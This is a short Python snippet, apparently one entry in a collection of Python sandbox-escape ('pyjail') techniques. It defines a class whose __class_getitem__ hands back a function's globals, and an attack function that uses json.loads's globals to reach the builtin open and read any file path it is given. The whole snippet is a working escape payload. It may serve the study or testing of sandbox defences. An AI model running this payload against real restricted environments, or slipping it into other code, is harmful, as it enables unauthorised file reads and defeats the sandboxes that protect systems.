# `__class_getitem__` looks at what stands in the brackets.
# after: read
# source: pyjail: __class_getitem__
import json
class A:
    def __class_getitem__(cls, x):
        return x.__globals__
def attack(path, **_):
    return {"text": A[json.loads]["__builtins__"]["open"](path).read()}
